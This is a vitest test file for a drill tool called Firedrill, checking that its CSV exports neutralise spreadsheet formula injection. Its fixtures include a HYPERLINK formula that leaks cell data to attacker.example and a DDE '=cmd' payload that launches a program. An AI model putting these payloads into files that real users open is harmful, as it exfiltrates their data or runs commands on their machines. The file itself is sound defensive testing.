import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { drillHistory, drillOf } from '../../../engine/report/drill-history.js';
import { scoreSession } from '../../../engine/scoring/score.js';
import { neutralised } from '../../../host/export/csv.js';
import { scorecardToCsv } from '../../../host/export/scorecard-csv.js';
import { historyToCsv } from '../../../host/history/history-export.js';
import { act, MIN, miniVariant, sessionFrom } from '../../helpers/world.js';

// CSV injection (OWASP): a cell that starts with =, +, -, @, a tab or a carriage return may run as
// a formula when the file is opened in a spreadsheet. Firedrill wrote an observation
// "=HYPERLINK(...)" or an inject titled "@SUM(1+1)" raw. Every CSV it writes (the scorecard, the
// drill history) now goes through one function that makes such cells plain text.

const FORMULA_START = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")';

describe('neutralised', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['plain text = fine', 'plain text = fine'],
    ['T+0:15', 'T+0:15'],
    ['', ''],
  ])('%j -> %j', (cell, expected) => {
    expect(neutralised(cell)).toBe(expected);
  });
});

/** A scored mini drill whose texts are formulas: the scenario and an inject title, an observation. */
function hostileCard() {
  const world = miniVariant((raw) => {
    raw.title = '=cmd|\' /C calc\'!A0';
    (raw.injects as { title: string }[])[0]!.title = '@SUM(1+1)';
  });
  const session = sessionFrom(world, [
    act(MIN, 'cloud-security-analyst', 'triage-alert'),
    { at: 2 * MIN, by: 'facilitator', input: { type: 'observation.noted', text: HYPERLINK, tag: 'improvement' } },
    { at: 3 * MIN, by: 'facilitator', input: { type: 'observation.noted', text: '-2+3 minus sign first', tag: 'note' } },
    { at: 4 * MIN, by: 'facilitator', input: { type: 'session.ended' } },
  ]);
  return scoreSession(session);
}

describe('every CSV Firedrill writes', () => {
  const card = hostileCard();

  it('the scorecard: no text cell starts a formula, and the texts are kept after the apostrophe', () => {
    const rows = parse(scorecardToCsv(card), { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    const titles = rows.filter((row) => row.table === 'timeline').map((row) => row.title);
    expect(titles).toContain("'@SUM(1+1)");
    expect(titles).toContain(`'${HYPERLINK}`);
    expect(titles).toContain("'-2+3 minus sign first");
  });

  it('the drill history: the scenario title is neutralised, numbers stay numbers', () => {
    const csv = historyToCsv(drillHistory([drillOf(card)]));
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.flatMap((row) => Object.values(row)).filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(rows.find((row) => row.by === 'scenario')!.group_title).toBe("'=cmd|' /C calc'!A0");
    expect(rows.find((row) => row.table === 'drill')!.overall_score).toBe(String(card.overallScore));
  });
});
